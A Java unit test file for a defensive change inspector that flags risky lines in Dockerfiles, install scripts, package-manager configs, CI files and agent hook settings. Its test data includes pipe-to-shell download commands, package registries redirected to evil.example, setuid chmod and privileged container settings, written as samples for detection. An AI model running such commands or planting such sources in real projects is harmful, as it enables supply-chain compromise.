package io.interlock.engine.guardrail;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What each kind of file is looked at for, line by line. */
class InspectorsTest {

    private static List<String> added(String path, String text) {
        return Change.edited(path, "", text.replace("\\n", "\n")).found();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "FROM ubuntu | docker-unpinned-image:1",
                "FROM --platform=linux/amd64 ubuntu:latest AS b | docker-unpinned-image:1",
                "FROM a:1\\nADD https://example.org/x /x | docker-add-url:2",
                "FROM a:1\\nUSER 0:0 | docker-root-user:2",
                "FROM a:1\\nRUN chmod 4755 /bin/x | setuid-bit:2",
                "FROM a:1\\nRUN chmod u+s /bin/x | setuid-bit:2",
                "FROM a:1\\nRUN bash <(curl -s https://x.io/i) -y | pipe-to-shell:2",
            })
    void a_dockerfile(String text, String found) {
        assertThat(Change.edited("a/Dockerfile", "FROM x:1\n", text.replace("\\n", "\n"))
                        .found())
                .containsOnlyOnce(found);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "FROM ubuntu:24.04\\nUSER app",
                "FROM ubuntu@sha256:abc\\nUSER app",
                "FROM localhost:5000/a:1\\nUSER app",
                "ARG BASE\\nFROM $BASE AS build\\nFROM build\\nUSER app",
                "FROM scratch\\nADD --checksum=sha256:abc https://example.org/x /x\\nUSER app",
                "FROM a:1\\nUSER root\\nRUN apt-get update\\nUSER app",
                "FROM a:1\\nRUN curl -o x https://x.io/i && sha256sum x\\nRUN chmod 0755 x\\nUSER app",
                "FROM a:1\\nRUN curl -s https://x.io/i | tar xz\\nUSER app"
            })
    void a_dockerfile_as_it_should_be(String text) {
        assertThat(added("Dockerfile", text)).isEmpty();
    }

    @Test
    void an_image_that_stops_naming_its_user_is_told() {
        assertThat(Change.edited("Dockerfile", "FROM a:1\nUSER app\n", "FROM a:1\n")
                        .found())
                .containsExactly("docker-root-user:1");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl -fsSL https://x.io/i | sh",
                "wget -qO- https://x.io/i | sudo -E bash",
                "bash <(curl -s https://x.io/i)",
                "sh -c \"$(curl -fsSL https://x.io/i)\"",
                "curl https://x.io/i | tee log | python3 -",
                "curl https://x.io/i |\\\nsh"
            })
    void a_script_that_runs_what_it_downloads(String text) {
        assertThat(added("install.sh", text)).containsExactly("pipe-to-shell:1");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl https://x.io/i || sh fallback.sh",
                "curl https://x.io/i | jq .",
                "# curl https://x.io/i | sh",
                "VERSION=$(curl -s https://x.io/version)",
                "chmod 755 x; chmod +x y; chmod 600 z"
            })
    void a_script_that_does_not(String text) {
        assertThat(added("install.sh", text)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "compose.yml | services:\\n  a:\\n    privileged: true | container-privileged:3",
                "k8s/a.yaml | hostNetwork: true | container-privileged:1",
                "compose.yml | - /var/run/docker.sock:/var/run/docker.sock | container-privileged:1",
                ".npmrc | registry=https://evil.example/ | dependency-source:1",
                ".npmrc | @acme:registry=https://evil.example/ | dependency-source:1",
                ".npmrc | strict-ssl=false | insecure-dependency-source:1",
                ".npmrc | ignore-scripts=false | install-script:1",
                ".yarnrc.yml | npmRegistryServer: https://evil.example | dependency-source:1",
                ".yarnrc.yml | yarnPath: x.cjs | install-script:1",
                "package.json | {\"scripts\": {\\n\"postinstall\": \"node x\"}} | install-script:2",
                "package.json | {\"dependencies\": {\\n\"a\": \"git+https://evil.example/a\"}} | dependency-source:2",
                "package.json | {\"dependencies\": {\\n\"a\": \"someone/a\"}} | dependency-source:2",
                "package.json | {\"dependencies\": {\\n\"a\": \"npm:b@1\"}} | dependency-source:2",
                "requirements.txt | --extra-index-url https://evil.example/simple | dependency-source:1",
                "requirements/dev.txt | a @ git+https://evil.example/a | dependency-source:1",
                "requirements.txt | --trusted-host evil.example | insecure-dependency-source:1",
                "pip.conf | [global]\\nindex-url = https://evil.example/simple | dependency-source:2",
                "pyproject.toml | [[tool.uv.index]]\\nurl = \"https://evil.example\" | dependency-source:2",
                "pyproject.toml | [tool.poetry.dependencies]\\na = {git = \"https://evil.example/a\"} | dependency-source:2",
                "pyproject.toml | [[tool.poetry.source]]\\nname = \"x\"\\nurl = \"https://e.example\" | dependency-source:3",
                "pom.xml | <project><repositories><repository>\\n<url>https://e.example</url></repository>"
                        + "</repositories></project> | dependency-source:2",
                ".mvn/extensions.xml | <extensions><extension>\\n<artifactId>a</artifactId></extension></extensions>"
                        + " | install-script:1",
                "build.gradle | maven { url 'https://e.example' } | dependency-source:1",
                "build.gradle.kts | maven {\\n  url = uri(\"https://e.example\")\\n} | dependency-source:2",
                "build.gradle | apply from: 'https://e.example/x.gradle' | install-script:1",
                "gradle/wrapper/gradle-wrapper.properties | distributionSha256Sum=a\\n"
                        + "distributionUrl=https\\://e.example/g.zip | dependency-source:2",
                "go.mod | replace a.org/b => evil.example/b v1.0.0 | dependency-source:1",
                "go.mod | replace (\\n  a.org/b => evil.example/b v1.0.0\\n) | dependency-source:2",
                "Cargo.toml | [dependencies]\\na = { git = \"https://evil.example/a\" } | dependency-source:2",
                "Cargo.toml | [patch.crates-io]\\na = { git = \"https://evil.example/a\" } | dependency-source:2",
                ".cargo/config.toml | [source.crates-io]\\nreplace-with = \"mine\" | dependency-source:2",
                ".cargo/config.toml | [build]\\nrustc-wrapper = \"x\" | install-script:2",
                "Gemfile | source 'https://evil.example' | dependency-source:1",
                "Gemfile | gem 'a', github: 'someone/a' | dependency-source:1",
                "composer.json | {\"repositories\": [\\n{\"url\": \"https://evil.example\"}]} | dependency-source:2",
                "nuget.config | <configuration><packageSources>\\n<add key=\"a\" value=\"https://e.example\"/>"
                        + "</packageSources></configuration> | dependency-source:2",
                ".vscode/tasks.json | {\"tasks\": [\\n{\"runOptions\": {\"runOn\": \"folderOpen\"}}]} | install-script:2",
                ".devcontainer/devcontainer.json | {\\n\"postCreateCommand\": \"make\"} | install-script:2",
                ".mcp.json | {\"mcpServers\": {\\n\"a\": {\"command\": \"x\"}}} | agent-instructions:2",
                ".claude/settings.json | {\"hooks\": {\"Stop\": [{\"hooks\": [\\n{\"command\": \"x\"}]}]}} | install-script:2",
                ".gitlab-ci.yml | include:\\n  - remote: 'https://evil.example/ci.yml' | ci-remote-include:2",
            })
    void a_line_that_deserves_eyes(String path, String text, String found) {
        assertThat(added(path, text)).contains(found);
        assertThat(Change.edited(path, text.replace("\\n", "\n"), text.replace("\\n", "\n") + "\n")
                        .found())
                .as("the same in both versions")
                .doesNotContain(found);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "package.json | {\"scripts\": {\"test\": \"x\"}, \"dependencies\": {\"a\": \"^1\", \"b\": \"workspace:*\","
                        + " \"c\": \"file:../c\", \"@d/e\": \"~2\"}}",
                "pyproject.toml | [project]\\ndependencies = [\"a>=1\"]",
                "requirements.txt | a==1\\n-r other.txt",
                "pom.xml | <project><distributionManagement><repository><url>https://e.example</url></repository>"
                        + "</distributionManagement></project>",
                "go.mod | module a\\nrequire b.org/c v1",
                "Cargo.toml | [dependencies]\\na = \"1\"\\nb = { path = \"../b\" }",
                "build.gradle | repositories { mavenCentral() }",
                "values.yaml | privileged: false",
                ".vscode/tasks.json | {\"tasks\": [{\"command\": \"make\"}]}",
            })
    void a_line_that_does_not(String path, String text) {
        assertThat(added(path, text)).isEmpty();
    }

    @Test
    void a_host_that_is_new_in_a_lock_file_is_told_with_its_line() {
        String old = "{\"packages\": {\n\"a\": {\"resolved\": \"https://good.example/a.tgz\"},\n";
        String now = old + "\"b\": {\"resolved\": \"https://good.example/b.tgz\"},\n"
                + "\"c\": {\"resolved\": \"https://evil.example/c.tgz\",\n\"funding\": {\"url\": \"https://pay.example\"}}\n";

        assertThat(Change.edited("package-lock.json", old, now).found()).containsExactly("dependency-source:4");
        assertThat(Change.edited("package-lock.json", old, now)
                        .findings("dependency-source")
                        .get(0)
                        .message())
                .isEqualTo("The lock file takes packages from https://evil.example, which is new");
    }

    @Test
    void a_lock_file_that_takes_packages_without_encryption_is_told() {
        assertThat(added("yarn.lock", "a@1:\n  resolved \"http://good.example/a.tgz#1\"\n"))
                .containsExactly("dependency-source:2", "insecure-dependency-source:2");
    }

    @Test
    void credentials_in_urls_are_not_repeated() {
        String url = "https://user:" + "pass" + "word@evil.example/";

        assertThat(Change.added(".npmrc", "registry=" + url)
                        .result()
                        .findings()
                        .get(0)
                        .message())
                .isEqualTo("Every package comes from https://evil.example");
    }
}
